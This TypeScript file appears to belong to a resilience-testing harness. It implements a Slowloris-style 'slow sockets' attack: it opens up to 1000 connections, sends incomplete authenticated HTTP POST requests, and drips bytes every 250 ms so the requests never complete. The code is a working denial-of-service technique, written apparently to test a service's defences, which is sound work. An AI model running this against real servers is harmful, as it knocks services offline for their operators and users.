import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, type Field, scaled } from '../attack.ts'
import { pathTo } from '../call.ts'

/** Beyond this the machine that attacks has no room for more, whatever the scale. */
const MOST = 1000
const EVERY_MS = 250

type Slow = { socket: Socket; drip: string; isAnswered: boolean }

const open = (field: Field, n: number): Slow => {
  const { addresses, attacker } = field
  const { hostname, port } = new URL(addresses[n % addresses.length] as string)
  const socket = connect({ host: hostname, port: Number(port) })
  const slow: Slow = { socket, drip: n % 2 ? 'x-slow: a\r\n' : 'a', isAnswered: false }
  socket.on('data', (chunk: Buffer) => {
    if (!slow.isAnswered) field.count(Number(chunk.toString('latin1', 9, 12)))
    slow.isAnswered = true
  })
  socket.on('error', () => undefined)
  const path = pathTo(n % 3 ? 'createProducts' : 'issueToken', attacker.code)
  const head = `POST ${path} HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${attacker.token}\r\n`
  const body = 'content-type: application/json\r\ncontent-length: 60000\r\n\r\n{"a":"'
  socket.write(n % 2 ? head : head + body)
  return slow
}

/** Headers and bodies that come letter by letter and never end. */
export const slowSockets: Attack = {
  name: 'slow sockets',
  run: async (field) => {
    const count = Math.min(MOST, scaled(field, 200))
    const slow = Array.from({ length: count }, (_, n) => open(field, n))
    while (field.elapsed() < 1) {
      await sleep(EVERY_MS)
      for (const { socket, drip } of slow) if (socket.writable) socket.write(drip)
    }
    for (const { socket, isAnswered } of slow) {
      if (!isAnswered) field.count('left')
      socket.destroy()
    }
  },
}
